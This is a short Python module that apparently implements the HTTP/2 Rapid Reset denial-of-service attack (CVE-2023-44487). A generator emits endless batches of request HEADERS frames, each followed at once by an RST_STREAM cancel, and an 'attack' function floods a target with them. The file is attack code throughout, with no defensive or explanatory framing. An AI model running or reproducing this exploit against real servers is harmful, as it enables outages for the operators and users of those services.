# SPDX-License-Identifier: Apache-2.0
"""CVE-2023-44487: a request, and at once its reset, again and again."""
import struct

from lib.flood import headers, request_block
from lib.http2 import CANCEL, RST_STREAM, frame

BLOCK = request_block("/readyz", "GET")
RESET = struct.pack(">I", CANCEL)


def resets():
    for stream in range(1, 1 << 30, 20):
        yield b"".join(headers(s, BLOCK) + frame(RST_STREAM, 0, s, RESET) for s in range(stream, stream + 20, 2))


def attack(target):
    return target.flood(resets)
